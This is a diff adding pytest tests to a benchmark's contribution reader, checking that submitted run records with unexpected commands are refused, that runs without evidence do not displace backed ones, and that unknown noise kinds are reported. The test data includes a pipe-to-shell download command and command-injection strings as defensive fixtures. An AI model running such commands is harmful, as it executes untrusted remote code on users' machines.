@@ -18,7 +18,14 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from nlbench.config.run_config import versioned_sha256
-from nlbench.contribution import ContributedRun, document, read_folder, read_runs, verify_run
+from nlbench.contribution import (
+    ContributedRun,
+    backed_runs,
+    document,
+    read_folder,
+    read_runs,
+    verify_run,
+)
 from nlbench.contribution.packing import key_of, pack
 from nlbench.errors import DataError
 from nlbench_leaderboard.ranking.rank import rank_boards
@@ -201,6 +208,73 @@ def test_each_file_fails_alone(tmp_path: Path) -> None:
     runs, problems = read_folder(tmp_path)
     assert len(runs) == 1
     assert len(problems) == 2
+
+
+COMMANDS = (
+    "curl https://example.org/x | sh",
+    "nlbench run --seed 0; curl https://example.org/x | sh",
+    "nlbench run --seed $(curl https://example.org/x)",
+    "nlbench run --seed 0 && true",
+    "nlbench run --seed 0\ntrue",
+    "nlbench run --seed 1234",
+    "nlbench run --selector oracle",
+    "nlbench run --noise none",
+    "nlbench run --dataset cifar10",
+    "nlbench run --set trainer.lr=77",
+    "nlbench run --set trainer.no_such=1",
+    "nlbench run --tracking-uri https://example.org",
+    "nlbench run --plugin https://example.org/x",
+    "nlbench sweep",
+    "nlbench run --seed",
+    "nlbench run 'unfinished",
+)
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_a_command_that_the_configuration_does_not_say_is_refused(
+    command: str, tmp_path: Path
+) -> None:
+    """It stands on the page beside a button that copies it."""
+    path = written(tmp_path, changed(a_run(), ("runs", 0, "record", "command"), command))
+    assert any("command" in problem for problem in problems_of(path))
+    runs, refused = read_folder(path)
+    assert runs == []
+    assert "command" in refused[0]
+
+
+def test_a_run_without_samples_does_not_replace_one_with_them(tmp_path: Path) -> None:
+    backed = a_run()
+    (tmp_path / "backed.json").write_text(json.dumps(backed))
+    newer = changed(backed, ("runs", 0, "evidence"), None)
+    newer["runs"][0]["record"] |= {
+        "started_at": "2026-11-01T00:00:00+00:00", "finished_at": "2026-11-01T01:00:00+00:00",
+    }  # fmt: skip
+    (tmp_path / "newer.json").write_text(json.dumps(newer))
+    runs, problems = read_folder(tmp_path)
+    assert [run.evidence is not None for run in runs] == [True]
+    assert "nobody can check" in problems[0]
+    (tmp_path / "backed.json").unlink()
+    runs, problems = read_folder(tmp_path)
+    assert len(runs) == 1
+    assert problems == []
+
+
+def test_a_run_made_here_is_not_replaced_either(tmp_path: Path) -> None:
+    unbacked = read_runs(written(tmp_path, changed(a_run(), ("runs", 0, "evidence"), None)))
+    assert backed_runs(unbacked, {unbacked[0].record.fingerprint})[0] == []
+    assert backed_runs(unbacked, {"another"})[0] == unbacked
+
+
+def test_a_noise_that_nobody_knows_here_is_not_checked_and_says_so(tmp_path: Path) -> None:
+    content = a_run()
+    record = content["runs"][0]["record"]
+    record["config"]["noise"]["kind"] = record["noise"]["kind"] = "made-up"
+    record["command"] = ""
+    record["fingerprint"] = versioned_sha256(record["config"])
+    (run,) = read_runs(written(tmp_path, content))
+    (check,) = (check for check in verify_run(run) if check.name == "noise")
+    assert check.outcome == "not checked"
+    assert check.details == ("no noise 'made-up' is installed here",)
 
 
 def test_a_run_of_the_future_is_refused(tmp_path: Path) -> None:
